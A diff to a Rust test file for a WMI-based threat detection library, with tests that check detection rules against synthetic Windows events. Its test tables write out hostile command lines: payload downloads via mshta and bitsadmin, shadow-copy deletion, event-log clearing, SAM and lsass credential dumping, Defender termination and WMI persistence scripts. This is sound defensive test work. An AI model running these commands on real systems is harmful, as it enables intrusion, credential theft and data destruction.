@@ -2,15 +2,19 @@
 #![allow(clippy::unwrap_used, reason = "tests fail so")]
 
 use wmi_events::detect::Severity;
-use wmi_events::{Event, EventId, Record, System};
+use wmi_events::schema::{self, EventSchema};
+use wmi_events::{Event, Record, System};
 
 const WMIC: &str = r"C:\Windows\System32\wbem\WMIC.exe";
 const CMD: &str = r"C:\Windows\System32\cmd.exe";
 const MOFCOMP: &str = r"C:\Windows\System32\wbem\mofcomp.exe";
+const WMIPRVSE: &str = r"C:\Windows\System32\wbem\WmiPrvSE.exe";
+const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+const PWSH: &str = r"C:\Program Files\PowerShell\7\pwsh.exe";
 const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";
 
-fn event(id: EventId, fields: &[(&'static str, &str)]) -> Event<'static> {
-    let mut system = System::new(id);
+fn event(schema: &EventSchema, fields: &[(&'static str, &str)]) -> Event<'static> {
+    let mut system = System::of(schema);
     system.computer = Some("WKS07.corp.example".into());
     let mut record = Record::new(system);
     for (name, value) in fields {
@@ -30,7 +34,7 @@ fn process(image: &str, parent: &str, line: &str) -> Vec<(&'static str, Severity
         ("ParentProcessName", parent),
         ("CommandLine", line),
     ];
-    names(&event(EventId::PROCESS_CREATION, &fields))
+    names(&event(&schema::PROCESS_CREATION, &fields))
 }
 
 /// Each line has this finding; `""`: none of medium severity and above.
@@ -221,6 +225,222 @@ fn namespaces_of_mofcomp() {
     ] {
         let line = format!("mofcomp.exe -N:{namespace} {mof}");
         let found = process(MOFCOMP, MSIEXEC, &line);
-        assert_eq!(!found.is_empty(), is_remote, "{line}: {found:?}");
+        let is_found = found.iter().any(|(name, _)| *name == "mof_compiler_remote");
+        assert_eq!(is_found, is_remote, "{line}: {found:?}");
+    }
+}
+
+/// cmd.exe strips the quotes around a command that ends with the name of a program.
+#[test]
+fn quotes_of_cmd() {
+    let table = [
+        (
+            r#"cmd /c "mshta http://10.0.0.9/a.com""#,
+            "wmiprvse_suspicious_child",
+        ),
+        (
+            r#"cmd /c "start C:\Users\Public\a.exe""#,
+            "wmiprvse_suspicious_child",
+        ),
+        (
+            r#"cmd.exe /c "powershell -w hidden -f C:\a.exe""#,
+            "wmiprvse_suspicious_child",
+        ),
+        (
+            r#"cmd /c "rundll32 C:\ProgramData\a.dll,x a.exe""#,
+            "wmiprvse_suspicious_child",
+        ),
+        (
+            r#"cmd /c "taskkill /f /im MsMpEng.exe""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            r#"cmd /c "sc create x binpath= C:\a.exe""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            r#"cmd /c "schtasks /create /tn x /tr C:\a.exe""#,
+            "wmi_sensitive_command",
+        ),
+    ];
+    assert_all(CMD, WMIPRVSE, &table);
+    for line in [
+        r#"cmd /c "C:\Program Files\Contoso, Inc\App\a.exe""#,
+        r#"cmd /c "C:\Program Files\App\start me.exe""#,
+    ] {
+        let found = process(CMD, WMIPRVSE, line);
+        let is_any = |name: &str| found.iter().any(|(found, _)| *found == name);
+        assert!(!is_any("wmiprvse_suspicious_child"), "{line}: {found:?}");
+    }
+}
+
+#[test]
+fn paths_with_blanks() {
+    let table = [
+        (
+            r#"wmic process call create "C:\Program Files\PowerShell\7\pwsh.exe -enc AAAA""#,
+            "wmic_suspicious_process_create",
+        ),
+        (
+            r#"wmic process call create "C:\Program Files\..\Windows\System32\mshta.exe http://10.0.0.9/a.hta""#,
+            "wmic_suspicious_process_create",
+        ),
+        (
+            r#"wmic process call create "C:\Program Files\x\..\..\Users\Public\a.exe""#,
+            "wmic_suspicious_process_create",
+        ),
+        (
+            r#"wmic process call create "C:\Program Files\App\app.exe /x""#,
+            "",
+        ),
+    ];
+    assert_all(WMIC, CMD, &table);
+    let enc = format!("{PWSH} -enc AAAA");
+    let shadow = format!(r#"{PWSH} -c "gwmi win32_shadowcopy | rwmi""#);
+    assert_all(
+        PWSH,
+        WMIPRVSE,
+        &[
+            (&enc, "wmiprvse_suspicious_child"),
+            (&shadow, "shadow_copy_delete"),
+        ],
+    );
+}
+
+/// The commands of a script are judged as those of cmd.exe are.
+#[test]
+fn commands_of_powershell() {
+    let table = [
+        (
+            r#"powershell -c "vssadmin delete shadows /all /quiet""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            "powershell net user hax P@ss1 /add",
+            "wmi_sensitive_command",
+        ),
+        (
+            r#"powershell -c "$x = 1; wevtutil cl Security""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            r#"powershell -c "& reg save HKLM\SAM C:\x""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            r#"powershell -c "cmd /c vssadmin delete shadows /all""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            r#"powershell -c "powershell -c 'Clear-EventLog Security'""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            r"powershell C:\Users\Public\a.ps1",
+            "wmiprvse_suspicious_child",
+        ),
+        (
+            r#"powershell -c "mshta http://10.0.0.9/a.hta""#,
+            "wmiprvse_suspicious_child",
+        ),
+    ];
+    assert_all(POWERSHELL, WMIPRVSE, &table);
+    let table = [
+        (
+            r#"wmic process call create "procdump64.exe -accepteula -ma lsass.exe C:\x.dmp""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            r#"wmic process call create "powershell -c vssadmin delete shadows /all""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            r#"wmic process call create "bcdedit /set {default} recoveryenabled No""#,
+            "wmi_sensitive_command",
+        ),
+        (
+            r#"wmic process call create "bcdedit /set {default} recoveryenabled Yes""#,
+            "",
+        ),
+    ];
+    assert_all(WMIC, CMD, &table);
+}
+
+#[test]
+fn output_in_a_second_shell() {
+    let table = [
+        (
+            r#"cmd.exe /C cmd /s /c "whoami > C:\Windows\Temp\QwErTyUi 2>&1""#,
+            "wmi_command_output_captured",
+        ),
+        (
+            r#"cmd /c cmd /c "whoami /all > \\SRV01\share\x.txt""#,
+            "wmi_command_output_captured",
+        ),
+        (
+            r#"cmd.exe /Q /c cmd /s /c "whoami 1> \\127.0.0.1\ADMIN$\__1790000000.123 2>&1""#,
+            "wmiexec_output_redirect",
+        ),
+    ];
+    assert_all(CMD, WMIPRVSE, &table);
+    let local = r#"cmd /c cmd /c "whoami > C:\Logs\a.txt""#;
+    let found = process(CMD, WMIPRVSE, local);
+    assert!(
+        !found.iter().any(|(name, _)| name.contains("output")),
+        "{found:?}"
+    );
+}
+
+/// pwsh.exe has the name of its assembly.
+#[test]
+fn original_name_of_pwsh() {
+    let fields = [
+        ("Image", r"C:\Users\Public\p.exe"),
+        ("OriginalFileName", "pwsh.dll"),
+        (
+            "CommandLine",
+            r#"p.exe -c "gcim win32_shadowcopy | Remove-CimInstance""#,
+        ),
+    ];
+    let found = names(&event(&schema::SYSMON_PROCESS_CREATION, &fields));
+    assert!(
+        found.iter().any(|(name, _)| *name == "shadow_copy_delete"),
+        "{found:?}"
+    );
+}
+
+#[test]
+fn scripts_of_consumers() {
+    let table = [
+        (
+            r#"CreateObject("WScript.Shell").Run "powershell -nop -w hidden -enc AAAA", 0"#,
+            true,
+        ),
+        (r#"sh.Run "certutil -decode C:\a.txt C:\a.exe""#, true),
+        (r#"Set x=CreateObject("Microsoft.XMLHTTP")"#, true),
+        (r#"Set x=CreateObject("MSXML2.ServerXMLHTTP.6.0")"#, true),
+        (r#"sh.Run "mshta http://10.0.0.9/a.hta""#, true),
+        (
+            r#"sh.Run "cmd /c ""bitsadmin /transfer a http://10.0.0.9/a.exe C:\a.exe""""#,
+            true,
+        ),
+        (r#"Set f = fso.OpenTextFile("C:\Logs\a b.txt", 8)"#, false),
+    ];
+    for (script, expected) in table {
+        let cause = format!(
+            "Binding EventFilter: \ninstance of __EventFilter\n{{\n\tName = \"x\";\n}};\n\
+             Perm. Consumer: \ninstance of ActiveScriptEventConsumer\n{{\n\tName = \"x\";\n\
+             \tScriptText = \"{}\";\n\tScriptingEngine = \"VBScript\";\n}};\n",
+            script.replace('\\', r"\\").replace('"', "\\\"")
+        );
+        let fields = [
+            ("Namespace", r"//./root/subscription"),
+            ("ESS", "x"),
+            ("CONSUMER", "y"),
+            ("PossibleCause", &*cause),
+        ];
+        let found = names(&event(&schema::ESS_TO_CONSUMER_BINDING, &fields));
+        let is_found = found.iter().any(|(name, _)| *name == "suspicious_consumer");
+        assert_eq!(is_found, expected, "{script}: {found:?}");
     }
 }
